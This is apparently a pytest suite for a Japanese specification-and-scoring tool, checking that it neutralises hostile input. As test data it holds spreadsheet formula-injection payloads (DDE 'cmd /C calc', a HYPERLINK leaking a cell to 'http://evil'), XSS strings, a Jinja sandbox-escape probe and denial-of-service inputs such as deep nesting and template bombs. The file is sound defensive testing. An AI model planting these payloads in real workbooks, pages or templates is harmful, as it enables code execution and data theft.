"""Hostile input and faults, round two (issue 11): no live formula, no raw HTML, no crash, bounded time and memory.

Large or odd inputs are generated here (tests/rawooxml.py) rather than stored: each case is named for what it breaks.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from committee_helpers import result, score_of
from conftest import ROOT, SAMPLES, run_cli
from rawooxml import docx as raw_docx
from rawooxml import xlsx as raw_xlsx
from specgen.writers.cellsafe import md_text, safe_text, sheet_title
from specgen.errors import InputFileError, ProjectFileError
from specgen.files.safety import load_json, read_csv_rows, sniff
from specgen.templating import render_user_template

SPEC = SAMPLES / "spec_city_genai.xlsx"
PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"開く")', "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"A\")", '=WEBSERVICE("http://x")',
            "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1", "\r=1+1", " ＝1+1", "＠x", "﹦1", "\n+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_one_neutraliser_catches_every_form_after_normalisation(payload):
    from specgen.textnorm import normalize

    for form in (payload, normalize(payload)):  # what a reader hands over, and what the raw cell held
        s = safe_text(form)
        assert s.startswith("'"), (form, s)


def test_neutraliser_removes_characters_a_workbook_cannot_hold():
    assert safe_text("A\x07社\x00\ud800") == "A社" and safe_text(None) == ""
    assert safe_text("普通の文") == "普通の文" and safe_text(12) == "12"


def test_sheet_titles_from_outside_text():
    used: set[str] = set()
    assert sheet_title("=HYPERLINK(x)", used).startswith("＿=")
    assert sheet_title("a/b:c*?[d]", used) == "abcd"
    assert sheet_title("'quoted'", used) == "quoted"
    assert len(sheet_title("長" * 40, used)) == 31
    assert sheet_title("ABCD", used) == "ABCD_2"  # Excel compares names case-insensitively


def test_markdown_escaper_shows_html_and_markdown_literally():
    s = md_text('<img src=x onerror=alert(1)> <script>x</script> [a](javascript:x) **b** `c` | d $e$ &amp;\nnext')
    import re

    assert "<" not in s and ">" not in s and "&amp;amp;" in s
    assert not re.search(r"(?<!\\)[\[\]*`|$]", s), s  # every Markdown mark is escaped
    assert "\n" not in s


def test_evaluation_report_escapes_every_outside_text(tmp_path):
    bad = "<img src=x onerror=alert(1)>"
    score = score_of(**{bad: [result("1", "partial", reason="<script>alert(1)</script>")], "[x](javascript:alert(1))": [result("1", "met")]})
    score["spec"]["source"] = "<b>spec</b>.xlsx"
    (tmp_path / "s.json").write_text(json.dumps(score), encoding="utf-8")
    out = tmp_path / "o"
    assert run_cli(["compare", "--score-json", tmp_path / "s.json", "--out", out, "-q"])[0] == 0
    from committee_helpers import member_copy

    a = member_copy(out / "evaluation.xlsx", tmp_path / "a.xlsx", [(bad, "1", "充足", "<iframe src=x>", "<b>委員</b>")])
    code, _o, err = run_cli(["compare", "--score-json", tmp_path / "s.json", "--out", out, "--overrides", a, "-q"])
    assert code == 0, err
    md = (out / "evaluation.md").read_text(encoding="utf-8")
    import re

    for raw in ("<img", "<script", "<iframe", "<b>"):
        assert raw not in md, raw
    assert not re.search(r"(?<!\\)\]\(javascript", md)
    assert "&lt;img src=x onerror=alert(1)&gt;" in md and "&lt;iframe src=x&gt;" in md


@pytest.mark.parametrize("name", ["$\\undefinedcmd{x}$", "$$", "$x^$", "\\", "A\u202eB"])
def test_chart_labels_from_vendor_names_never_crash(tmp_path, name):
    (tmp_path / "s.json").write_text(json.dumps(score_of(**{name: [result("1", "met")], "B": [result("1", "partial")]})), encoding="utf-8")
    code, _o, err = run_cli(["compare", "--score-json", tmp_path / "s.json", "--out", tmp_path / "o", "-q"])
    assert code == 0, err
    assert (tmp_path / "o" / "totals.png").stat().st_size > 1000 and (tmp_path / "o" / "heatmap.png").exists()


# --- nesting, parsers ---------------------------------------------------------------------------------------

def _no_crash(args: list, tmp_path: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    p = subprocess.run([sys.executable, "-m", "specgen", *map(str, args)], capture_output=True, text=True, env=env, timeout=60)
    assert p.returncode >= 0, f"killed by signal {-p.returncode}"
    return p


def test_deeply_nested_yaml_is_refused_not_a_segfault(tmp_path):
    deep = tmp_path / "deep.yaml"
    deep.write_text("[" * 100_000, encoding="utf-8")
    p = _no_crash(["compare", "--score-json", _score(tmp_path), "--out", tmp_path / "o", "--rules", deep], tmp_path)
    assert p.returncode == 1 and "入れ子が深すぎます" in p.stderr and p.stderr.count("\n") == 1
    p = _no_crash(["generate", "-c", "2", "-s", "cloud", "-o", tmp_path / "g", "-p", deep], tmp_path)
    assert p.returncode == 1 and "入れ子が深すぎます" in p.stderr


def _score(tmp_path: Path) -> Path:
    p = tmp_path / "score.json"
    p.write_text(json.dumps(score_of(A=[result("1", "met")])), encoding="utf-8")
    return p


@pytest.mark.parametrize("text,needle", [
    ('2024-02-30', "存在しない日付"), ("!!timestamp 2024-13-45", "存在しない日付"), ('"a\\x07b"', "制御文字"), ("a: &a [1]\n" + "b: *a\n" * 0, None),
])
def test_yaml_values_the_constructor_rejects_are_named_with_their_line(tmp_path, text, needle):
    from specgen.evaluation.rules import load_rules

    p = tmp_path / "rules.yaml"
    p.write_text(f"method: add\nx: {text}\n", encoding="utf-8")
    with pytest.raises(ProjectFileError) as e:
        load_rules(p)
    if needle:
        assert needle in str(e.value) and "line 2" in str(e.value)


@pytest.mark.parametrize("content,needle", [
    ("[" * 100_000, "入れ子が深すぎます"),
    ('{"responses": [{"vendor": "A", "results": [{"id": "1", "status": "met", "weight": ' + "9" * 5000 + "}]}], \"spec\": {}}", "読めません"),
    ('{"spec": {}, "responses": [{"vendor": "A", "results": [{"id": "1", "status": "met", "weight": "abc"}]}]}', "weight"),
    ('{"spec": {}, "responses": [{"vendor": "A", "results": [{"id": [1, 2], "status": "maybe"}]}]}', "status"),
    ('{"spec": {}, "responses": [{"vendor": "A", "results": [{"id": "1", "status": "met", "weight": NaN}]}]}', "読めません"),
    ('{"spec": "x", "responses": null}', "specgen score の JSON ではありません"),
    ('{"spec": {}, "responses": [{"vendor": "A", "results": [{"id": "1", "status": "met"}]}, {"vendor": "B", "results": [{"id": "2", "status": "met"}]}]}', "一致しません"),
])
def test_hostile_score_json_is_one_clear_error(tmp_path, content, needle):
    p = tmp_path / "score.json"
    p.write_text(content, encoding="utf-8")
    code, _o, err = run_cli(["compare", "--score-json", p, "--out", tmp_path / "o"])
    assert code == 1 and needle in err and "Traceback" not in err and "内部エラー" not in err
    assert not (tmp_path / "o" / "evaluation.xlsx").exists()


def test_json_limits():
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "x.json"
        p.write_text('{"a": "[[[[ not nesting inside a string ]]]]", "b": [[[1]]]}', encoding="utf-8")
        assert load_json(p)["b"] == [[[1]]]
        p.write_text('{"a": Infinity}', encoding="utf-8")
        with pytest.raises(InputFileError) as e:
            load_json(p)
        assert str(e.value) == "x.json: JSON として読めません / invalid JSON (Infinity is not a number)"


# --- denial of service inside the limits ---------------------------------------------------------------------

def _quick(fn, seconds: float = 5.0):
    t = time.perf_counter()
    with pytest.raises(InputFileError) as e:
        fn()
    assert time.perf_counter() - t < seconds
    return str(e.value)


def test_a_far_cell_behind_a_small_dimension_is_caught(tmp_path):
    p = raw_xlsx(tmp_path / "far.xlsx", [["No.", "要件", "対応可否"], ["1", "x", "○"]], dimension="A1", extra_cells=[("XFD1048576", "x")])
    assert "XFD1048576" in _quick(lambda: sniff(p))


def test_a_huge_merged_range_is_caught(tmp_path):
    p = raw_xlsx(tmp_path / "merge.xlsx", [["No.", "要件"], ["1", "x"]], merges=["A1:XFD1048576"])
    assert "結合セル" in _quick(lambda: sniff(p))
    many = raw_xlsx(tmp_path / "many.xlsx", [["x"]], merges=[f"A{r}:GR{r}" for r in range(1, 2000)])  # 2,000 rows × 200 columns
    assert "結合セルが多すぎます" in _quick(lambda: sniff(many))


def test_too_many_paragraphs_and_table_cells_are_caught(tmp_path):
    paras = raw_docx(tmp_path / "p.docx", [f"第{i}項 当社は対応します。{os.urandom(6).hex()}" for i in range(49_000)])
    assert "段落が多すぎます" in _quick(lambda: sniff(paras))
    table = raw_docx(tmp_path / "t.docx", ["提案書"], table=(3_000, 60), text=lambda r, c: f"{r}-{c} {os.urandom(3).hex()}")
    assert "表のセルが多すぎます" in _quick(lambda: sniff(table))


def test_entity_declaration_after_padding_is_caught(tmp_path):
    p = raw_xlsx(tmp_path / "pad.xlsx", [["x"]], prefix="<!--" + "x" * 9_000 + '--><!DOCTYPE r [<!ENTITY a "b">]>')
    assert "DTD" in _quick(lambda: sniff(p))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX FIFOs")
def test_a_fifo_given_as_input_does_not_block(tmp_path):
    fifo = tmp_path / "resp.xlsx"
    os.mkfifo(fifo)
    signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(TimeoutError("blocked")))
    signal.alarm(10)
    try:
        code, _o, err = run_cli(["score", "--spec", SPEC, "-r", fifo, "--json", tmp_path / "o.json"])
        code2, _o2, err2 = run_cli(["compare", "--score-json", fifo, "--out", tmp_path / "o"])
    finally:
        signal.alarm(0)
    assert code == 1 and "通常のファイルではありません" in err
    assert code2 == 1 and "通常のファイルではありません" in err2


def test_dev_zero_as_a_project_or_rules_file(tmp_path):
    code, _o, err = run_cli(["generate", "-c", "2", "-s", "cloud", "-o", tmp_path / "g", "-p", "/dev/zero"])
    assert code == 1 and "通常のファイルではありません" in err
    code, _o, err = run_cli(["compare", "--score-json", _score(tmp_path), "--out", tmp_path / "o", "--rules", "/dev/zero"])
    assert code == 1 and "通常のファイルではありません" in err


def test_csv_reader_bounds_fields_and_reads_cr_only_and_shift_jis(tmp_path):
    p = tmp_path / "list.csv"
    p.write_bytes(b"a,b\r1," + b"x" * 200_000 + b"\r")
    assert "項目が長すぎます" in _quick(lambda: read_csv_rows(p))
    p.write_bytes("登録番号,名称\r C23-0001-1,サービス\r".encode("cp932"))
    assert read_csv_rows(p)[1][1] == "サービス"
    p.write_bytes(b"a," * 10 + b"\n" + b"x\n" * 30_000)
    assert "行が多すぎます" in _quick(lambda: read_csv_rows(p))


# --- user templates (for the generator's --md-template) ------------------------------------------------------

@pytest.mark.parametrize("source,needle", [
    ("{{ 'x'|center(10**9) }}", "center"),
    ("{{ [1] * 10**9 }}", "repetition"),
    ("{{ 'ab' * 10**8 }}", "repetition"),
    ("{{ 1 / 0 }}", "ZeroDivisionError"),
    ("{{ 10 ** 10 ** 10 }}", "power"),
    ("{{ 'abc'|truncate(-5) }}", "描画できません"),
    ("{% include 'secret.txt' %}", "include"),
    ("{% import 'x.j2' as x %}", "include"),
    ("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}", "RecursionError"),
    ("{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(9) %}{% for d in range(9) %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}", "入れ子"),
    ("{{ '%099999999d' % 1 }}", "format width"),
    ("{{ '{:>999999999}'.format(1) }}", "format width"),
    ("{{ range(10**9)|list }}", "range"),
    ("{% for i in range(100000) %}{{ 'x' * 100 }}{% endfor %}", "出力が大きすぎます"),
    ("{{ ''.__class__.__mro__ }}", "安全でない"),
    ("{{ x", "構文エラー"),
])
def test_user_templates_are_bounded(tmp_path, source, needle):
    p = tmp_path / "t.md.j2"
    p.write_text(source, encoding="utf-8")
    (tmp_path / "secret.txt").write_text("TOP-SECRET", encoding="utf-8")
    t = time.perf_counter()
    with pytest.raises(ProjectFileError) as e:
        render_user_template(p, {"title": "x"}, ProjectFileError)
    assert needle in str(e.value) and "\n" not in str(e.value) and time.perf_counter() - t < 12


def test_an_ordinary_user_template_renders(tmp_path):
    p = tmp_path / "t.md.j2"
    p.write_text("# {{ title }}\n{% for r in reqs %}- {{ r|upper }}\n{% endfor %}{{ 'x'|center(9) }}", encoding="utf-8")
    assert render_user_template(p, {"title": "件名", "reqs": ["a", "b"]}, ProjectFileError) == "# 件名\n- A\n- B\n    x    "
